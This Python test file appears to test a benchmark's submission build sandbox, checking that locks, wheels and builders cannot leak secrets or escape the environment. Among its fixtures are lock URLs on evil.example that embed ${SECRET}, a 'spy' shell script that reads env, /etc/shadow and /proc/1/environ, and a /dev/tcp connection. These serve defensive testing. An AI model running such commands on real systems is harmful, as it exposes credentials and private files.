"""Locks and wheels that reach for the person who builds them, or replace the harness that measures them."""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from submission_factory import LOCK, MANIFEST, make_submission, make_wheel
from worldstrat_bench.digests import file_sha256
from worldstrat_bench.errors import InfrastructureError, InvalidArtefactError, UsageError
from worldstrat_bench.plugins.code import code_sha256
from worldstrat_bench.plugins.interpreter import inspect_interpreter, statement_of
from worldstrat_bench.submission.build_sandbox import BuildRoom, _way_out, installation_of, usable
from worldstrat_bench.submission.check import check
from worldstrat_bench.submission.environments import (
    HARNESS_PTH,
    EnvironmentRequest,
    build_environment,
    interpreter_of,
)
from worldstrat_bench.submission.harness_base import provided, refuse_replaced
from worldstrat_bench.submission.lock import LockError, parse_lock
from worldstrat_bench.submission.manifest import parse_manifest
from worldstrat_bench.submission.manifest_faults import ManifestError
from worldstrat_bench.worker.bubblewrap import find_bubblewrap
from worldstrat_bench.worker.grants import interpreter_paths

HASH = f"--hash=sha256:{'a' * 64}"
BUILDERS = [pytest.param(False, id="pip"), pytest.param(True, id="uv")]


@pytest.mark.parametrize(
    "line",
    [
        f"a @ https://evil.example/${{SECRET}}/a-1-py3-none-any.whl {HASH}",
        f"a @ https://evil.example/$SECRET/a-1-py3-none-any.whl {HASH}",
        f"a @ https://evil.example/{{SECRET}}/a-1-py3-none-any.whl {HASH}",
        f"a @ https://${{SECRET}}.evil.example/a-1-py3-none-any.whl {HASH}",
        f"a @ \\\n  https://evil.example/${{SECRET}}/a-1-py3-none-any.whl \\\n  {HASH}",
        f"a==1+${{SECRET}} {HASH}",
        f"a==1 ; platform_version == '${{SECRET}}' {HASH}",
    ],
)
def test_a_lock_names_no_variable_of_the_builder(line: str) -> None:
    with pytest.raises(LockError, match="variable") as caught:
        parse_lock(f"# honest so far\n{line}\n")
    assert caught.value.line == 2


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/a-1.tar.gz",
        "https://evil.example/a-1.zip",
        "https://evil.example/a",
        "https://evil.example/",
        "https://evil.example/a-1.tar.gz?x=a-1-py3-none-any.whl",
        "https://evil.example/a-1.tar.gz#a-1-py3-none-any.whl",
        "https://evil.example/a-1-py3-none-any.whl#egg=a",
        "https://evil.example/a-1-py3-none-any.whl#subdirectory=x",
        "https://evil.example/a-1-py3-none-any.whl%2Fa-1.tar.gz",
        "https://evil.example/a-1-py3-none-any.whl/",
        "https://evil.example/a-1-py3-none-any.WHL",
        "https://evil.example/b-1-py3-none-any.whl",
        "https://evil.example/x.whl",
        "https://[::1/a-1-py3-none-any.whl",
    ],
)
def test_an_address_is_that_of_a_wheel(address: str) -> None:
    """An installer builds whatever else it finds at an address, and so runs code of it, outside of every worker."""
    with pytest.raises(LockError, match=r"wheel|fragment|cannot be read"):
        parse_lock(f"a @ {address} {HASH}\n")
    pinned = f'frames = 8\nwheel = "{address}"\nwheel_sha256 = "{"a" * 64}"'
    with pytest.raises(ManifestError, match=r"wheel|fragment|model\.wheel"):
        parse_manifest(MANIFEST.replace("my-sr", "a").replace("frames = 8", pinned))


EDITABLE = b'{"url": "file:///etc", "dir_info": {"editable": true}}'
PKG_INFO = b"Metadata-Version: 2.1\nName: sly\nVersion: 1.0\n"
REACHING = {
    "editable": {
        "evil-1.0.dist-info/direct_url.json": EDITABLE,
        "evil_finder.py": b"MAPPING: dict = {'x': '/etc/ssl'}\n",
    },
    "editable-egg": {
        "sly.egg-info/PKG-INFO": PKG_INFO,
        "sly.egg-info/direct_url.json": EDITABLE,
        "sly.egg-info/installed-files.txt": b"../evil_finder.py\n",
        "evil_finder.py": b"MAPPING: dict = {'x': '/etc/ssl'}\n",
    },
    "interpreter": {"evil-1.0.data/scripts/python": b"#!/bin/sh\ntouch {ran}\n"},
    "interpreter-by-data": {"evil-1.0.data/data/bin/python": b"#!/bin/sh\ntouch {ran}\n"},
    "activation": {"evil-1.0.data/data/bin/activate": b"touch {ran}\n"},
    "configuration": {"evil-1.0.data/data/pyvenv.cfg": b"home = /etc\ninclude-system-site-packages = true\n"},
}
"""Files of a wheel that make a worker read what is outside, or the harness run what is inside.
"""


@pytest.mark.parametrize("uv", BUILDERS)
@pytest.mark.parametrize("attack", REACHING)
def test_a_wheel_of_a_lock_does_not_reach_out_of_its_environment(tmp_path: Path, attack: str, uv: bool) -> None:
    _need_uv(uv)
    python = f"python{sys.version_info.major}.{sys.version_info.minor}"
    ran = tmp_path / "ran"
    files = {
        name.format(python=python): data.replace(b"{ran}", str(ran).encode()) for name, data in REACHING[attack].items()
    }
    wheel = make_wheel(tmp_path / "wheels", name="evil", files=files)
    folder = tmp_path / "environments"
    with pytest.raises(InvalidArtefactError):
        _build(folder, wheel, uv=uv)
    assert not list(folder.glob("*/bin/python"))  # nothing is left that could be taken for built
    assert not list(folder.glob("*.json"))
    assert not ran.exists()


@pytest.mark.parametrize("uv", BUILDERS)
def test_a_module_beside_the_packages_is_refused_or_has_a_part_in_the_digest(tmp_path: Path, uv: bool) -> None:
    """pip moves such files among the modules and records another place; uv records where they are."""
    _need_uv(uv)
    found = []
    for count, content in enumerate((b"FACTOR = 1\n", b"FACTOR = 2\n")):
        files = {"evil-1.0.data/data/beside.py": content, "evil-1.0.data/data/share/evil/notes.txt": b"honest\n"}
        wheel = make_wheel(tmp_path / f"wheels{count}", name="evil", files=files)
        try:
            python = _build(tmp_path / "environments", wheel, uv=uv)
        except InvalidArtefactError as error:
            found.append("refused" if "beside.py" in error.what else error.what)
        else:
            (metadata,) = python.parent.parent.glob("lib/python*/site-packages/evil-1.0.dist-info")
            found.append(str(code_sha256(metadata)))
    assert found == ["refused", "refused"] or (len(set(found)) == 2 and uv)


@pytest.mark.parametrize("uv", BUILDERS)
def test_metadata_that_python_cannot_read_is_refused(tmp_path: Path, uv: bool) -> None:
    """uv takes it, and the package was missing wherever packages are listed."""
    _need_uv(uv)
    wheel = make_wheel(tmp_path / "wheels", name="evil", metadata="Summary: caf\xe9\n", encoding="latin-1")
    with pytest.raises(InvalidArtefactError):
        _build(tmp_path / "environments", wheel, uv=uv)


def test_a_lock_names_no_package_that_a_record_could_not(tmp_path: Path) -> None:
    (item,) = parse_lock(f"{'a' * 100}==1.0 {HASH}\n")
    assert item.name == "a" * 100
    with pytest.raises(LockError, match="a name of more than 100 characters"):
        parse_lock(f"{'a' * 101}==1.0 {HASH}\n")


@pytest.mark.parametrize(
    ("said", "way_out"),
    [
        ("error: Failed to fetch: `https://example.org/simple/a/`", "WORLDSTRAT_BENCH_INDEX"),
        ("ERROR: Could not find a version; Temporary failure in name resolution", "WORLDSTRAT_BENCH_INDEX"),
        ("error: Hash mismatch for `a==1.0`", "lock it again"),
        ("ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.", "lock it again"),
        ("ERROR: No matching distribution found for a==9.0", "a wheel for this platform"),
    ],
)
def test_what_an_installer_said_has_its_own_way_out(said: str, way_out: str) -> None:
    assert way_out in _way_out(said)


def test_a_build_has_half_an_hour_for_all_that_is_in_a_lock(tmp_path: Path) -> None:
    room = BuildRoom(tmp_path / "home", tmp_path / "scratch", until=time.monotonic() + 1)
    for folder in (room.home, room.scratch):
        folder.mkdir()

    def install_many() -> None:
        for _ in range(100):
            room.run(["/bin/sleep", "0.3"], "install a of the lock")

    with pytest.raises(InfrastructureError, match="half an hour has passed since the build began"):
        install_many()


@pytest.mark.parametrize("uv", BUILDERS)
def test_other_files_beside_the_packages_are_honest(tmp_path: Path, uv: bool) -> None:
    _need_uv(uv)
    wheel = make_wheel(tmp_path / "wheels", name="evil", files={"evil-1.0.data/data/share/evil/notes.txt": b"honest\n"})
    assert _build(tmp_path / "environments", wheel, uv=uv).exists()


HONEST = {
    "honest-1.0.data/scripts/tool": b"#!python\nprint(1)\n",
    "honest-1.0.data/purelib/more_of_it.py": b"",
    "distutils-precedence.pth": b"import os; os.environ.get('SETUPTOOLS_USE_DISTUTILS')\n",
    "honest_paths.pth": b"# a folder of its own\nhonest\n",
    "evil.pth": b"/etc\n../../../../..\n",
    "honest-1.0.data/platlib/more.PTH": b"/etc\n",
    "honest/weights.pth": b"\x80\x02 no text",
}
"""Files of wheels as they are: setuptools brings a line of code, others a folder below their own."""


@pytest.mark.parametrize("over_harness", [False, True])
@pytest.mark.parametrize("uv", BUILDERS)
def test_an_honest_environment_is_described_by_what_we_wrote(tmp_path: Path, uv: bool, over_harness: bool) -> None:
    _need_uv(uv)
    wheel = make_wheel(tmp_path / "wheels", name="honest", files=HONEST)
    python = _build(tmp_path / "environments", wheel, uv=uv, over_harness=over_harness)
    home = python.parent.parent
    found = inspect_interpreter(python)
    base = inspect_interpreter(Path(sys.executable)).base
    assert (found.prefix, found.base, found.version) == (home, base, sys.version_info[:3])
    (packages,) = found.site_paths
    assert (packages / "more_of_it.py").is_file()
    assert not (home / "bin" / "tool").exists()
    own = {HARNESS_PTH} if over_harness else set()
    assert {path.name for path in packages.iterdir() if path.suffix.lower() == ".pth"} - {"_virtualenv.pth"} == own
    assert (packages / "honest" / "weights.pth").is_file()
    # Whatever comes into it later, its metadata adds no folder to what the worker is granted.
    (packages / "evil.pth").write_text("/etc/ssl\n")
    (packages / "sly-1.0.dist-info").mkdir()
    (packages / "sly-1.0.dist-info" / "METADATA").write_bytes(PKG_INFO)
    (packages / "sly-1.0.dist-info" / "RECORD").write_text("sly_finder.py,,\n")
    (packages / "sly-1.0.dist-info" / "direct_url.json").write_bytes(EDITABLE)
    (packages / "sly_finder.py").write_text("MAPPING: dict = {'x': '/etc/ssl'}\n")
    (home / "pyvenv.cfg").write_text("home = /etc\ninclude-system-site-packages = true\n")
    paths, listed = interpreter_paths(inspect_interpreter(python))
    known = (home, base, *(found.extra or ()))
    assert bool(found.extra) is over_harness
    assert all(any(path.resolve().is_relative_to(folder.resolve()) for folder in known) for path in paths)
    assert listed == []
    # What says so lies where no wheel writes, and what a package brings is not taken for it.
    statement = json.loads(statement_of(home).read_text())
    statement["site_paths"] = ["/etc/ssl"]
    statement_of(home).write_text(json.dumps(statement))
    assert Path("/etc/ssl") not in inspect_interpreter(python).site_paths


def test_the_interpreter_of_an_environment_is_not_started_to_be_described(tmp_path: Path) -> None:
    """A package of the user's own environment put a script in its place, or a home into its configuration."""
    wheel = make_wheel(tmp_path / "wheels", name="honest")
    python = _build(tmp_path / "environments", wheel, uv=False)
    home, base = python.parent.parent, inspect_interpreter(python).base
    python.unlink()
    python.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    python.chmod(0o755)
    assert inspect_interpreter(python).base == base
    assert not (tmp_path / "ran").exists()
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    subprocess.run([sys.executable, "-I", "-m", "venv", "--without-pip", str(theirs)], check=True)
    lib = tmp_path / "fake" / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "encodings"
    lib.mkdir(parents=True)
    (lib / "__init__.py").write_text(f"import posix\nposix.mkdir({str(tmp_path / 'ran')!r})\n")
    (lib.parent / "os.py").touch()
    (theirs / "pyvenv.cfg").write_text(f"home = {tmp_path / 'fake' / 'bin'}\n")
    assert inspect_interpreter(theirs).base == base
    assert not (tmp_path / "ran").exists()
    assert home != theirs


def _need_uv(uv: bool) -> None:
    if uv and shutil.which("uv") is None and not Path(sys.executable).with_name("uv").is_file():
        pytest.skip("uv is not installed")


def _build(folder: Path, wheel: Path, *, uv: bool, over_harness: bool = False) -> Path:
    name = wheel.name.split("-")[0]
    request = EnvironmentRequest(f"{name}==1.0 --hash=sha256:{file_sha256(wheel)}\n", over_harness=over_harness)
    return build_environment(request, folder, find_links=wheel.parent, offline=True, uv=uv)


def test_a_lock_with_an_address_and_a_marker_is_read() -> None:
    marker = 'python_version >= "3.9" and platform_machine == "x86_64"'
    address = "https://example.org/a-1%2Bcpu-py3-none-any.whl?x=1"
    lock = f"a @ {address} ; {marker} {HASH}\nb==1+cpu {HASH}  # costs 3 $ {{or more}}\n"
    assert [item.name for item in parse_lock(lock)] == ["a", "b"]


def test_nor_does_the_address_of_a_wheel() -> None:
    pinned = (
        'wheel = "https://example.org/{}/my_sr-1.0-py3-none-any.whl"\nwheel_sha256 = "' + "a" * 64 + '"\nframes = 8'
    )
    assert parse_manifest(MANIFEST.replace("frames = 8", pinned.format("v1,2;3"))).model.wheel is not None
    for name in ("$SECRET", "${SECRET}", "{SECRET}"):
        with pytest.raises(ManifestError, match=r"model\.wheel"):
            parse_manifest(MANIFEST.replace("frames = 8", pinned.format(name)))


SPY = """#!/bin/sh
{ env; cat "$1/secret.txt" "$2" 2>&1; ls "$1"; cat /etc/shadow /root/.bashrc /proc/1/environ; } > seen.txt 2>&1
cp seen.txt "$3/requirements.txt"
"""


def test_a_builder_has_neither_variables_nor_files_of_ours(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_TOKEN", "s3cr3t")
    monkeypatch.setenv("PIP_INDEX_URL", "https://user:s3cr3t@example.org/")
    (tmp_path / "secret.txt").write_text("s3cr3t of a file")
    spy = tmp_path / "tools" / "spy"
    spy.parent.mkdir()
    spy.write_text(SPY)
    spy.chmod(0o755)
    home, scratch = tmp_path / "home", tmp_path / "scratch"
    for folder in (home, scratch):
        folder.mkdir()
    room = BuildRoom(home, scratch, (spy,))
    room.run([str(spy), str(tmp_path), str(Path(__file__)), str(home)], "spy")
    seen = (home / "requirements.txt").read_text()
    assert "SECRET_TOKEN" not in seen
    assert "user:" not in seen
    names = {line.split("=")[0] for line in seen.splitlines() if line[:1].isupper() and "=" in line}
    assert {"HOME", "PATH"} <= names <= {*room.variables(), "PWD", "OLDPWD", "SHLVL", "_"}
    program = find_bubblewrap()
    if program is None or not usable(program):
        pytest.skip("no bubblewrap here: the rest needs it")
    assert "s3cr3t" not in seen
    assert "Locks and wheels that reach" not in seen


def test_a_builder_sees_an_interpreter_and_not_the_folder_of_the_link_to_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """uv links the interpreters that it installs in ~/.local/bin; and ~/bin is beside everything that a user has."""
    base, local = Path(sys.base_prefix), tmp_path / "home" / ".local" / "bin"
    local.mkdir(parents=True)
    (local / "python3.99").symlink_to(base / "bin" / f"python3.{sys.version_info.minor}")
    monkeypatch.setenv("PATH", str(local))
    asked = interpreter_of("3.99")
    shown = installation_of(asked)
    assert asked.is_relative_to(base)
    assert not any(local.is_relative_to(folder) for folder in shown)
    assert any(asked.is_relative_to(folder) for folder in shown)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    own = tmp_path / "home" / "bin" / "python3.98"
    own.parent.mkdir()
    shutil.copy(sys.executable, own)
    monkeypatch.setenv("PATH", str(own.parent))
    with pytest.raises(UsageError, match="is a home or holds one"):
        installation_of(interpreter_of("3.98"))


def test_a_builder_reaches_the_network_only_if_it_may(tmp_path: Path) -> None:
    program = find_bubblewrap()
    if program is None or not usable(program):
        pytest.skip("no bubblewrap here")
    with socket.create_server(("127.0.0.1", 0)) as server:
        connect = f"exec 3<>/dev/tcp/127.0.0.1/{server.getsockname()[1]}"
        for network in (True, False):
            room = BuildRoom(tmp_path / f"home{network}", tmp_path / f"scratch{network}", network=network)
            room.home.mkdir()
            room.scratch.mkdir()
            if network:
                room.run(["/bin/bash", "-c", connect], "connect")
            else:
                with pytest.raises(InvalidArtefactError, match="could not connect"):
                    room.run(["/bin/bash", "-c", connect], "connect")


@pytest.mark.parametrize("uv", BUILDERS)
def test_both_builders_run_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, uv: bool) -> None:
    lines: list[list[str]] = []
    honest = subprocess.run

    def recorded(command: list[str], **options: object) -> object:
        if "env" in options:
            lines.append([str(part) for part in command])
            assert "SECRET_TOKEN" not in options["env"]  # type: ignore[operator]
        return honest(command, **options)  # type: ignore[call-overload]

    monkeypatch.setenv("SECRET_TOKEN", "s3cr3t")
    monkeypatch.setattr("worldstrat_bench.submission.build_sandbox.subprocess.run", recorded)
    wheel = make_wheel(tmp_path / "links")
    lock = f"my-sr==1.0 --hash=sha256:{file_sha256(wheel)}\n"
    python = build_environment(
        EnvironmentRequest(lock), tmp_path / "envs", find_links=wheel.parent, offline=True, uv=uv
    )
    assert python.is_file()
    assert len(lines) == 2  # the environment, then the lock
    assert not list((tmp_path / "envs").glob("*.scratch"))


@pytest.mark.parametrize("name", ["torch", "numpy", "Pillow", "safetensors", "worldstrat_bench", "SciPy"])
def test_a_lock_over_the_harness_names_nothing_of_it(tmp_path: Path, name: str) -> None:
    folder = make_submission(tmp_path)
    assert check([folder]).ok
    (folder / "requirements.lock").write_text(f"{LOCK}{name}==0.0.1 {HASH}\n")
    (fault,) = check([folder]).errors
    assert (fault.rule, fault.line) == ("lock", 3)
    assert "comes from the harness" in fault.what
    manifest = folder / "submission.toml"
    manifest.write_text(manifest.read_text().replace('base = "harness"', 'base = "locked"'))
    assert not any("comes from the harness" in fault.what for fault in check([folder]).errors)


def test_nor_another_version_of_what_is_installed_beside_it() -> None:
    locked = parse_lock(f"einops==0.7 {HASH}\ntimm==1.0 {HASH}\n")
    refuse_replaced(locked, {"einops": "0.7", "torch": "2.6"})
    with pytest.raises(LockError, match=r"timm comes from the harness, in version 0\.9") as caught:
        refuse_replaced(locked, {"einops": "0.7", "timm": "0.9"})
    assert caught.value.line == 2
    assert "torch" in provided()


@pytest.mark.parametrize(
    ("module", "uv"),
    [
        ("PIL/__init__.py", False),
        ("PIL/__init__.py", True),
        ("torch.py", False),
        ("numpy/linalg.py", False),
        ("", True),
    ],
)
def test_an_environment_over_the_harness_shadows_none_of_its_modules(tmp_path: Path, module: str, uv: bool) -> None:
    files = {module: b"# mine now\n"} if module else {"my_sr_extra/linalg.py": b""}
    wheel = make_wheel(tmp_path / "links", name="innocent", entry_points="", files=files)
    request = EnvironmentRequest(f"innocent==1.0 --hash=sha256:{file_sha256(wheel)}\n", over_harness=True)
    places = {"find_links": wheel.parent, "offline": True, "uv": uv}
    if not module:
        assert build_environment(request, tmp_path / "envs", **places).is_file()  # type: ignore[arg-type]
        return
    with pytest.raises(InvalidArtefactError, match=f"module '{module.split('/', maxsplit=1)[0].split('.')[0]}'"):
        build_environment(request, tmp_path / "envs", **places)  # type: ignore[arg-type]
    assert not list((tmp_path / "envs").glob("*/bin"))


def test_a_wheel_beside_the_manifest_that_calls_itself_pil_is_refused(tmp_path: Path) -> None:
    folder = make_submission(tmp_path)
    honest = make_wheel(folder)
    assert check([folder]).ok
    honest.unlink()
    shutil.move(make_wheel(tmp_path / "w", files={"PIL/__init__.py": b""}), folder)
    # nor is it the code of the record
    assert [fault.rule for fault in check([folder]).errors] == ["record-code", "wheel-shadow"]


def test_two_namespace_packages_may_share_a_folder(tmp_path: Path) -> None:
    from worldstrat_bench.submission.harness_base import refuse_shadowed

    for side, module in (("ours", "a"), ("theirs", "b")):
        (tmp_path / side / "shared").mkdir(parents=True)
        (tmp_path / side / "shared" / f"{module}.py").touch()
    refuse_shadowed(tmp_path / "ours", [tmp_path / "theirs"], ())
    (tmp_path / "ours" / "shared" / "b.py").touch()
    with pytest.raises(InvalidArtefactError, match=r"shared\.b"):
        refuse_shadowed(tmp_path / "ours", [tmp_path / "theirs"], ())
